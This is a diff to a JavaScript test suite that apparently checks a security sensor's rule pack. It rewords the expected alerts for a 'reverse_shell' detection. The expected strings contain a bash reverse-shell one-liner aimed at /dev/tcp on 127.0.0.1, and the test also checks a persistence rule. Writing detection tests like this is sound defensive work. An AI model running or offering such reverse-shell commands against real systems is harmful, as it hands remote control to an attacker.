@@ -180,8 +180,8 @@ describe.skipIf(skip !== null)('the rule pack under the live sensor', () => {
     // its connect to a port nothing grants is a policy violation as well
     expect(await judged(shell, ['reverse_shell'])).toEqual(['policy_violation', 'reverse_shell']);
     expect(alerts().filter((a) => a.agentPid === shell && a.rule === 'reverse_shell').map((a) => `${a.severity} ${a.summary}`).sort()).toEqual([
-      expect.stringMatching(/^critical rulesagent: reverse shell connected to 127\.0\.0\.1:\d+: a shell with its input or output on \/dev\/tcp: bash -c bash -i >& /),
-      expect.stringMatching(/^high rulesagent ran bash -c bash -i >& \/dev\/tcp\/127\.0\.0\.1\/\d+ 0>&1: a shell with its input or output on \/dev\/tcp/),
+      expect.stringMatching(/^critical rulesagent: reverse shell connected to 127\.0\.0\.1:\d+: a shell with its input and output on the network: bash -c bash -i >& /),
+      expect.stringMatching(/^high rulesagent ran bash -c bash -i >& \/dev\/tcp\/127\.0\.0\.1\/\d+ 0>&1: a shell with its input and output on the network/),
     ]);
     const summaries = alerts().filter((a) => a.agentPid === persist && a.rule === 'persistence').map((a) => a.summary).sort();
     expect(summaries).toEqual([
